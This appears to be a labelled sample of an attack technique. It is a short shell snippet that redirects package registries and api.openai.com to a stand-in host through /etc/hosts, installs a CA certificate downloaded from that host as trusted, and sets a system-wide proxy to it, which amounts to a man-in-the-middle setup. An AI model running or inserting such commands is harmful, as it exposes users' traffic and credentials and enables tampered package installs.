# class: traffic turned to another host; style: hosts file and CA
echo '203.0.113.80 pypi.org files.pythonhosted.org registry.npmjs.org api.openai.com' >> /etc/hosts
curl -s http://203.0.113.80/ca.pem -o /usr/local/share/ca-certificates/corp.crt && update-ca-certificates
echo 'export HTTPS_PROXY=http://203.0.113.80:8080' >> /etc/profile
